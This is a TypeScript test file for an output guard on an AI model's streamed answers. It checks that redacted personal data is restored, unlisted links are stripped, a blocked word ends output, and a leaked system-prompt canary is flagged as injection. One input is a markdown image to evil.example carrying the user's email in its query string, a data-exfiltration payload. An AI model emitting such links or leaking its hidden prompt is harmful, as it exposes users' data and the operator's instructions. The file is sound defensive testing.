import { expect, it } from "vitest";
import { DEFAULT_GUARD } from "../protocol";
import { answerGuard } from "./answer-guard";
import { canary, withCanary } from "./canary";
import { GUARD } from "./reader";

const word = canary(new Uint8Array(20).fill(7));
const options = {
  policy: { ...DEFAULT_GUARD, blocked: ["grape"], linkHosts: ["shop.example"] },
  canary: word,
  system: withCanary("Answer from the documents.", word),
  vault: { "[email-1]": "a@b.io", "[text-1]": "[see](https://evil.example)" },
  hosts: ["docs.example"],
};
const answer = (text: string) => {
  const guard = answerGuard(options);
  let out = "";
  for (const char of text) out += guard.push(char);
  out += guard.end();
  return { out: out.replaceAll(GUARD, ""), verdict: guard.verdict() };
};

it("puts the visitor's own data back and leaves listed links alone", () => {
  expect(answer("We wrote to [email-1], see [Docs](https://docs.example/a) and https://shop.example/.")).toEqual({
    out: "We wrote to a@b.io, see [Docs](https://docs.example/a) and https://shop.example/.",
    verdict: null,
  });
});

it("judges links as they will be shown, restored text too", () => {
  expect(answer("[text-1] ![x](https://evil.example/?q=[email-1])").out).toBe("see x");
});

it("ends at a refused word, and at the canary", () => {
  expect(answer("Eat a grape. Then more.")).toEqual({ out: "Eat a ", verdict: { category: "rule", rule: "grape" } });
  const leak = answer(`It says ${word}.`);
  expect(leak.verdict).toEqual({ category: "injection" });
  expect(leak.out).toMatch(/^It says h{0,5}$/);
});
